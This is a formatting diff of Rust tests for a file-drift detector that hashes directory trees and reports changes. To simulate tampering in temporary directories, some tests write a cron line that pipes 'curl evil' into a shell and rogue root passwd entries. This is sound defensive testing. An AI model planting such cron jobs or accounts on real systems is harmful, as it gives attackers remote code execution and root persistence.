@@ -16,7 +16,8 @@ fn scanner(root: &Path, excludes: &[&str]) -> Scanner {
 }
 
 fn entry<'a>(t: &'a Tree, p: &Path) -> &'a FileEntry {
-    t.get(&path_text(p)).unwrap_or_else(|| panic!("no entry for {}", p.display()))
+    t.get(&path_text(p))
+        .unwrap_or_else(|| panic!("no entry for {}", p.display()))
 }
 
 fn sample_tree(dir: &Path) {
@@ -35,14 +36,26 @@ fn kinds_and_attributes_are_recorded_and_fifos_never_block() {
     let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
     // SAFETY: mkfifo on a NUL-terminated path we own.
     assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
-    fs::set_permissions(d.path().join("etc/passwd"), fs::Permissions::from_mode(0o640)).unwrap();
+    fs::set_permissions(
+        d.path().join("etc/passwd"),
+        fs::Permissions::from_mode(0o640),
+    )
+    .unwrap();
     let t = scanner(d.path(), &[]).full_scan();
     let f = entry(&t, &d.path().join("etc/passwd"));
     assert_eq!((f.kind, f.mode), ('f', 0o640));
-    assert_eq!(f.hash, blake3::hash(b"root:x:0:0::/root:/bin/sh\n").to_hex().to_string());
+    assert_eq!(
+        f.hash,
+        blake3::hash(b"root:x:0:0::/root:/bin/sh\n")
+            .to_hex()
+            .to_string()
+    );
     assert_eq!(entry(&t, &d.path().join("etc/nginx")).kind, 'd');
     let l = entry(&t, &d.path().join("etc/link"));
-    assert_eq!((l.kind, l.target.as_deref()), ('l', Some("nginx/nginx.conf")));
+    assert_eq!(
+        (l.kind, l.target.as_deref()),
+        ('l', Some("nginx/nginx.conf"))
+    );
     assert_eq!(entry(&t, &fifo).kind, 'o');
     // The root over cached leaves equals the wire crate's root over the plain entries.
     assert_eq!(t.root(), root_of_entries(&t.entries()));
@@ -69,14 +82,20 @@ fn same_files_created_in_another_order_give_the_same_root() {
     // Same tree at two locations: compare with paths made relative.
     let rel = |t: &Tree, base: &Path| -> Vec<FileEntry> {
         let prefix = path_text(base);
-        t.entries().into_iter().map(|mut e| {
-            e.path = e.path.strip_prefix(&prefix).unwrap().to_string();
-            e
-        }).collect()
+        t.entries()
+            .into_iter()
+            .map(|mut e| {
+                e.path = e.path.strip_prefix(&prefix).unwrap().to_string();
+                e
+            })
+            .collect()
     };
     let ta = scanner(&a.path().join("t"), &[]).full_scan();
     let tb = scanner(&b.path().join("t"), &[]).full_scan();
-    assert_eq!(root_of_entries(&rel(&ta, a.path())), root_of_entries(&rel(&tb, b.path())));
+    assert_eq!(
+        root_of_entries(&rel(&ta, a.path())),
+        root_of_entries(&rel(&tb, b.path()))
+    );
 }
 
 #[test]
@@ -90,9 +109,17 @@ fn one_file_change_moves_the_root_and_costs_one_hash() {
     let conf = d.path().join("etc/nginx/nginx.conf");
     fs::write(&conf, "worker_processes 4;\n").unwrap();
     s.refresh(&mut t, [conf.as_path()]);
-    assert_eq!(s.files_hashed() - hashed, 1, "an event for one file re-reads only that file");
+    assert_eq!(
+        s.files_hashed() - hashed,
+        1,
+        "an event for one file re-reads only that file"
+    );
     assert_ne!(t.root(), before);
-    assert_eq!(t.root(), s.full_scan().root(), "incremental and full scans agree");
+    assert_eq!(
+        t.root(),
+        s.full_scan().root(),
+        "incremental and full scans agree"
+    );
     // A directory event re-walks but reads only files whose inode, size or times moved.
     let hashed = s.files_hashed();
     fs::write(d.path().join("etc/nginx/sites/new"), "x").unwrap();
@@ -116,7 +143,14 @@ fn chmod_chown_and_symlink_retarget_are_named() {
     s.refresh(&mut cur, [passwd.as_path(), link.as_path()]);
     assert_ne!(cur.root(), base.root());
     let changes = diff(&base.entries(), &cur.entries());
-    let by_path = |p: &Path| changes.iter().find(|c| c.path == path_text(p)).unwrap_or_else(|| panic!("{} not in {changes:?}", p.display())).attrs.clone();
+    let by_path = |p: &Path| {
+        changes
+            .iter()
+            .find(|c| c.path == path_text(p))
+            .unwrap_or_else(|| panic!("{} not in {changes:?}", p.display()))
+            .attrs
+            .clone()
+    };
     assert_eq!(by_path(&passwd), vec!["mode"]);
     assert_eq!(by_path(&link), vec!["target"]);
     assert_eq!(changes.len(), 2, "{changes:?}");
@@ -133,14 +167,27 @@ fn removal_and_addition_of_a_subtree_via_events() {
     let away = tempfile::tempdir().unwrap();
     fs::rename(&nginx, away.path().join("moved-out")).unwrap();
     s.refresh(&mut t, [nginx.as_path()]);
-    assert!(t.get(&path_text(&nginx.join("sites/default"))).is_none(), "a vanished directory takes its subtree with it");
+    assert!(
+        t.get(&path_text(&nginx.join("sites/default"))).is_none(),
+        "a vanished directory takes its subtree with it"
+    );
     let added = d.path().join("etc/conf.d");
     fs::create_dir_all(added.join("deep")).unwrap();
     fs::write(added.join("deep/file"), "new").unwrap();
     s.refresh(&mut t, [added.as_path()]);
     let changes = diff(&base.entries(), &t.entries());
-    assert!(changes.iter().any(|c| c.change == "added" && c.path.ends_with("etc/conf.d/deep/file")), "{changes:?}");
-    assert!(changes.iter().any(|c| c.change == "removed" && c.path.ends_with("etc/nginx/sites/default")), "{changes:?}");
+    assert!(
+        changes
+            .iter()
+            .any(|c| c.change == "added" && c.path.ends_with("etc/conf.d/deep/file")),
+        "{changes:?}"
+    );
+    assert!(
+        changes
+            .iter()
+            .any(|c| c.change == "removed" && c.path.ends_with("etc/nginx/sites/default")),
+        "{changes:?}"
+    );
     assert_eq!(t.root(), s.full_scan().root());
 }
 
@@ -153,11 +200,24 @@ fn excludes_keep_paths_out_and_are_not_descended() {
     fs::create_dir_all(d.path().join("etc/cache/deep")).unwrap();
     fs::write(d.path().join("etc/cache/deep/x"), "x").unwrap();
     let cache = format!("{}/etc/cache/**", path_text(d.path()));
-    let s = Scanner::new(&[d.path().to_path_buf()], Excludes::new(&[DEFAULT_EXCLUDES, &[cache.as_str(), "*.conf"]].concat()), 1);
+    let s = Scanner::new(
+        &[d.path().to_path_buf()],
+        Excludes::new(&[DEFAULT_EXCLUDES, &[cache.as_str(), "*.conf"]].concat()),
+        1,
+    );
     let t = s.full_scan();
     let paths: Vec<String> = t.entries().into_iter().map(|e| e.path).collect();
-    for gone in ["etc/passwd-", "etc/notes~", "etc/cache", "etc/cache/deep/x", "etc/nginx/nginx.conf"] {
-        assert!(!paths.iter().any(|p| p.ends_with(gone)), "{gone} should be excluded: {paths:?}");
+    for gone in [
+        "etc/passwd-",
+        "etc/notes~",
+        "etc/cache",
+        "etc/cache/deep/x",
+        "etc/nginx/nginx.conf",
+    ] {
+        assert!(
+            !paths.iter().any(|p| p.ends_with(gone)),
+            "{gone} should be excluded: {paths:?}"
+        );
     }
     assert!(paths.iter().any(|p| p.ends_with("etc/passwd")));
     // Events under an excluded directory are ignored too.
@@ -182,7 +242,10 @@ fn drop_dac_caps_for_this_thread() {
         permitted: u32,
         inheritable: u32,
     }
-    let mut h = Header { version: 0x2008_0522, pid: 0 };
+    let mut h = Header {
+        version: 0x2008_0522,
+        pid: 0,
+    };
     let mut data = [Data::default(); 2];
     // SAFETY: capget/capset with a v3 header and two data slots, as the kernel ABI requires.
     unsafe {
@@ -217,15 +280,24 @@ fn unreadable_files_become_error_entries_without_aborting() {
     .unwrap();
     fs::set_permissions(&closed, fs::Permissions::from_mode(0o755)).unwrap();
     let e = entry(&t, &secret);
-    assert_eq!((e.kind, e.error.as_deref(), e.mode), ('e', Some("permission denied"), 0));
+    assert_eq!(
+        (e.kind, e.error.as_deref(), e.mode),
+        ('e', Some("permission denied"), 0)
+    );
     let c = entry(&t, &closed);
-    assert_eq!(c.kind, 'e', "a directory that cannot be listed is an error entry");
+    assert_eq!(
+        c.kind, 'e',
+        "a directory that cannot be listed is an error entry"
+    );
     // The rest of the tree is still there.
     assert_eq!(entry(&t, &d.path().join("etc/passwd")).kind, 'f');
     // Readable again (root with its capabilities): reported as an `error` change.
     let now = baseline.full_scan();
     let changes = diff(&t.entries(), &now.entries());
-    let sc = changes.iter().find(|c| c.path == path_text(&secret)).unwrap();
+    let sc = changes
+        .iter()
+        .find(|c| c.path == path_text(&secret))
+        .unwrap();
     assert_eq!(sc.attrs, vec!["error"], "{changes:?}");
 }
 
@@ -236,7 +308,10 @@ fn path_text_is_lossless() {
     assert_eq!(path_text(Path::new("/etc/a b")), "/etc/a b");
     let bad = path_text(Path::new(OsStr::from_bytes(b"/etc/\xff")));
     let lit = path_text(Path::new("/etc/\\xFF"));
-    assert_ne!(bad, lit, "a non-UTF-8 name and a literal backslash name must not collide");
+    assert_ne!(
+        bad, lit,
+        "a non-UTF-8 name and a literal backslash name must not collide"
+    );
 }
 
 #[test]
@@ -252,18 +327,43 @@ fn bake_then_drift_round_trip() {
     let d = tempfile::tempdir().unwrap();
     sample_tree(d.path());
     let out = d.path().join("etc/baseline.json");
-    let args = BakeArgs { drift_path: vec![d.path().join("etc")], drift_exclude: vec!["*.bak".into()], image_id: "img-7".into(), out: out.clone(), register: None, token: None };
+    let args = BakeArgs {
+        drift_path: vec![d.path().join("etc")],
+        drift_exclude: vec!["*.bak".into()],
+        image_id: "img-7".into(),
+        out: out.clone(),
+        register: None,
+        token: None,
+    };
     assert_eq!(bake(args).unwrap(), 0);
     let m = load_baseline(&out).unwrap();
     assert_eq!(m.image_id, "img-7");
-    assert!(m.excludes.iter().any(|e| e == "*.bak") && m.excludes.iter().any(|e| e == "/etc/machine-id"));
-    assert!(!m.entries.iter().any(|e| e.path.ends_with("baseline.json")), "the manifest excludes itself");
-    let drift_args = || DriftArgs { baseline: Some(out.clone()), state_dir: d.path().to_path_buf(), json: true };
+    assert!(
+        m.excludes.iter().any(|e| e == "*.bak")
+            && m.excludes.iter().any(|e| e == "/etc/machine-id")
+    );
+    assert!(
+        !m.entries.iter().any(|e| e.path.ends_with("baseline.json")),
+        "the manifest excludes itself"
+    );
+    let drift_args = || DriftArgs {
+        baseline: Some(out.clone()),
+        state_dir: d.path().to_path_buf(),
+        json: true,
+    };
     assert_eq!(drift(drift_args()).unwrap(), 0);
     fs::write(d.path().join("etc/passwd"), "evil::0:0::/:/bin/sh\n").unwrap();
     fs::write(d.path().join("etc/x.bak"), "ignored").unwrap();
     assert_eq!(drift(drift_args()).unwrap(), 1);
-    let e = bake(BakeArgs { drift_path: vec![d.path().into()], drift_exclude: vec![], image_id: "bad id".into(), out: out.clone(), register: None, token: None }).unwrap_err();
+    let e = bake(BakeArgs {
+        drift_path: vec![d.path().into()],
+        drift_exclude: vec![],
+        image_id: "bad id".into(),
+        out: out.clone(),
+        register: None,
+        token: None,
+    })
+    .unwrap_err();
     assert!(e.to_string().contains("not a valid id"));
 }
 
@@ -294,7 +394,12 @@ fn register_reports_the_collector_answer() {
             std::io::Read::read_exact(&mut r, &mut body).unwrap();
             seen.push((head, body));
             let msg = "{\"error\":\"nope\"}";
-            write!(&s, "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{msg}", msg.len()).unwrap();
+            write!(
+                &s,
+                "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{msg}",
+                msg.len()
+            )
+            .unwrap();
         }
         seen
     });
@@ -303,10 +408,19 @@ fn register_reports_the_collector_answer() {
     let m = make_manifest(&scanner(d.path(), &[]), "img-9");
     let json = serde_json::to_vec(&m).unwrap();
     assert_eq!(register(&url, Some("pipe-t"), &m, &json).unwrap(), 201);
-    let e = register(&url, Some("wrong"), &m, &json).unwrap_err().to_string();
-    assert!(e.contains("403") && e.contains("nope") && e.contains("pipeline token"), "{e}");
+    let e = register(&url, Some("wrong"), &m, &json)
+        .unwrap_err()
+        .to_string();
+    assert!(
+        e.contains("403") && e.contains("nope") && e.contains("pipeline token"),
+        "{e}"
+    );
     let seen = server.join().unwrap();
-    assert!(seen[0].0.starts_with("POST /v1/images/img-9/baseline "), "{}", seen[0].0);
+    assert!(
+        seen[0].0.starts_with("POST /v1/images/img-9/baseline "),
+        "{}",
+        seen[0].0
+    );
     assert!(seen[0].0.contains("Bearer pipe-t"));
     let back: phoenix_wire::drift::Manifest = serde_json::from_slice(&seen[0].1).unwrap();
     assert_eq!(back, m);
@@ -314,8 +428,17 @@ fn register_reports_the_collector_answer() {
 
 fn test_ctx(state: &Path) -> crate::source::Ctx {
     let spool = Arc::new(crate::spool::Spool::open(&state.join("spool"), 64 << 20).unwrap());
-    let identity = phoenix_wire::Identity { instance_id: "i-1".into(), image_id: "img".into(), ..Default::default() };
-    crate::source::Ctx { identity: Arc::new(identity), spool, state_dir: state.to_path_buf(), interval: Duration::from_secs(10) }
+    let identity = phoenix_wire::Identity {
+        instance_id: "i-1".into(),
+        image_id: "img".into(),
+        ..Default::default()
+    };
+    crate::source::Ctx {
+        identity: Arc::new(identity),
+        spool,
+        state_dir: state.to_path_buf(),
+        interval: Duration::from_secs(10),
+    }
 }
 
 /// Wait for the next queued drift state, taking it off the spool.
@@ -336,12 +459,23 @@ fn drift_source_reports_changes_within_a_second() {
     let d = tempfile::tempdir().unwrap();
     sample_tree(d.path());
     let watched = d.path().join("etc");
-    let s = Scanner::new(std::slice::from_ref(&watched), Excludes::new(DEFAULT_EXCLUDES), 1);
+    let s = Scanner::new(
+        std::slice::from_ref(&watched),
+        Excludes::new(DEFAULT_EXCLUDES),
+        1,
+    );
     let base = s.full_scan();
-    let baseline = Baseline { root: base.root(), entries: base.entries() };
+    let baseline = Baseline {
+        root: base.root(),
+        entries: base.entries(),
+    };
     let state = tempfile::tempdir().unwrap();
     let ctx = test_ctx(state.path());
-    let src = Box::new(DriftSource::new(s.clone(), Some(baseline), Duration::from_secs(3600)));
+    let src = Box::new(DriftSource::new(
+        s.clone(),
+        Some(baseline),
+        Duration::from_secs(3600),
+    ));
     let c2 = ctx.clone();
     let h = std::thread::spawn(move || crate::source::Source::run(src, c2));
     let first = next_state(&ctx, Duration::from_secs(10)).expect("first drift state");
@@ -354,13 +488,24 @@ fn drift_source_reports_changes_within_a_second() {
     let t = Instant::now();
     fs::write(&passwd, "mallory::0:0::/:/bin/sh\n").unwrap();
     let st = next_state(&ctx, Duration::from_secs(5)).expect("a state after the change");
-    assert!(t.elapsed() < Duration::from_secs(1), "took {:?}", t.elapsed());
+    assert!(
+        t.elapsed() < Duration::from_secs(1),
+        "took {:?}",
+        t.elapsed()
+    );
     assert_eq!(st.changes.len(), 1, "{:?}", st.changes);
-    assert_eq!((st.changes[0].path.as_str(), st.changes[0].attrs.clone()), (path_text(&passwd).as_str(), vec!["content".to_string()]));
+    assert_eq!(
+        (st.changes[0].path.as_str(), st.changes[0].attrs.clone()),
+        (path_text(&passwd).as_str(), vec!["content".to_string()])
+    );
 
     // A new file in a new directory, created right after the directory.
     fs::create_dir(watched.join("cron.d")).unwrap();
-    fs::write(watched.join("cron.d/job"), "* * * * * root curl evil | sh\n").unwrap();
+    fs::write(
+        watched.join("cron.d/job"),
+        "* * * * * root curl evil | sh\n",
+    )
+    .unwrap();
     let mut st = next_state(&ctx, Duration::from_secs(5)).expect("a state after the add");
     while !st.changes.iter().any(|c| c.path.ends_with("cron.d/job")) {
         st = next_state(&ctx, Duration::from_secs(5)).expect("the added file is reported");
@@ -392,14 +537,26 @@ fn lost_events_force_a_full_rescan_with_a_note() {
     // ...is found by the rescan that the overflow flag forces.
     assert!(note.unwrap().contains("overflow"));
     assert_eq!(t.root(), s.full_scan().root());
-    assert!(crate::counters::drift_overflows.load(std::sync::atomic::Ordering::Relaxed) > overflows);
+    assert!(
+        crate::counters::drift_overflows.load(std::sync::atomic::Ordering::Relaxed) > overflows
+    );
     let limit = notify::Error::new(notify::ErrorKind::MaxFilesWatch);
-    assert!(src.apply(&mut t, vec![Err(limit)]).unwrap().contains("max_user_watches"));
+    assert!(src
+        .apply(&mut t, vec![Err(limit)])
+        .unwrap()
+        .contains("max_user_watches"));
 }
 
 fn arb_files() -> impl Strategy<Value = Vec<(String, Vec<u8>, u32)>> {
-    prop::collection::btree_map("[a-d]{1,2}(/[a-d]{1,2}){0,2}", (prop::collection::vec(any::<u8>(), 0..64), prop::sample::select(vec![0o600u32, 0o644, 0o755])), 1..12)
-        .prop_map(|m| m.into_iter().map(|(k, (c, mode))| (k, c, mode)).collect())
+    prop::collection::btree_map(
+        "[a-d]{1,2}(/[a-d]{1,2}){0,2}",
+        (
+            prop::collection::vec(any::<u8>(), 0..64),
+            prop::sample::select(vec![0o600u32, 0o644, 0o755]),
+        ),
+        1..12,
+    )
+    .prop_map(|m| m.into_iter().map(|(k, (c, mode))| (k, c, mode)).collect())
 }
 
 fn materialise(root: &Path, files: &[(String, Vec<u8>, u32)]) -> Vec<PathBuf> {
